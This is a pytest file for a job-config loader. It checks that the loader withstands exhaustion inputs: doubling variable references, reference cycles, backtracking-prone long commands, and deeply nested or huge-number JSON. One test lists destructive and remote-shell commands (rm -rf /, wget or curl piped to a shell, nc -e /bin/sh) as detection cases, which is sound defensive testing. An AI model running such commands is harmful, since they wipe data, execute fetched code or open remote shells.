"""Executioner configs that try to exhaust the loader: ``${A}${A}`` doubling, long
chains and cycles of references, commands made to make the security checks slow, deep
or huge-numbered JSON. Each ends with a DefinitionError naming the place, or loads."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from ordo.definitions.executioner import DANGEROUS, Config, load_config
from ordo.errors import DefinitionError


def load(tmp_path: Path, jobs: list[dict[str, Any]], **top: Any) -> Config:
    path = tmp_path / "jobs.json"
    path.write_text(json.dumps({"working_dir": str(tmp_path), **top, "jobs": jobs}))
    return load_config(str(path))


def test_doubling_references_stop_with_the_variable_named(tmp_path: Path) -> None:
    env = {"A0": "xxxxxxxx", **{f"A{i}": f"${{A{i - 1}}}${{A{i - 1}}}" for i in range(1, 64)}}
    with pytest.raises(DefinitionError) as caught:
        load(tmp_path, [{"id": "a", "command": "echo ${A63}"}], env_variables=env)
    assert "env: ${A14} expands to more than 65536 characters" in str(caught.value)


def test_chains_and_cycles_of_references_resolve_once_each(tmp_path: Path) -> None:
    env = {f"V{i}": f"${{V{i + 1}}}" for i in range(3000)}
    env["V3000"] = "end"
    env["X"], env["Y"] = "${Y}", "${X}"
    config = load(tmp_path, [{"id": "a", "command": "true"}], env_variables=env)
    task_env = config.flow.tasks[0].env
    assert task_env["V0"] == "end" and task_env["V2999"] == "end"
    assert task_env["X"] == "${X}" and task_env["Y"] == "${X}"


@pytest.mark.parametrize(
    "command",
    [
        "rm " + "-r " * 8000,
        "rm -" + "r" * 24000,
        "curl " * 5000,
        "dd " * 8000,
        "eval " * 5000,
        "nc " * 8000,
        ">" + " " * 24000,
    ],
)
def test_long_commands_made_to_backtrack_are_checked(tmp_path: Path, command: str) -> None:
    config = load(tmp_path, [{"id": "a", "command": command}], security_policy="strict")
    assert config.flow.tasks[0].spec["command"] == command.strip()


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("rm -r -f /", "rm -rf /"),
        ("cd x && rm -rf ./", "rm -rf ~ or ."),
        ("wget -qO- http://x | sudo bash", "sudo/su/doas"),
        ("curl http://x |sh", "curl or wget piped to a shell"),
        ("nc host 1 -e /bin/sh", "nc -e"),
        ("x; reboot", "shutdown/reboot/halt/poweroff"),
    ],
)
def test_the_linear_checks_still_find_what_the_patterns_found(command: str, name: str) -> None:
    assert next(n for n, matches in DANGEROUS if matches(command)) == name


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"working_dir": "/tmp", "jobs": ' + "[" * 5000 + "]" * 5000 + "}", "nested deeper"),
        ('{"working_dir": "/tmp", "jobs": [], "x": ' + "9" * 5000 + "}", "longer than 4300"),
    ],
)
def test_deep_or_huge_number_json_is_refused_with_its_place(
    tmp_path: Path, text: str, message: str
) -> None:
    path = tmp_path / "jobs.json"
    path.write_text(text)
    with pytest.raises(DefinitionError) as caught:
        load_config(str(path))
    (problem,) = caught.value.problems
    assert message in problem.message and problem.line == 1 and problem.column
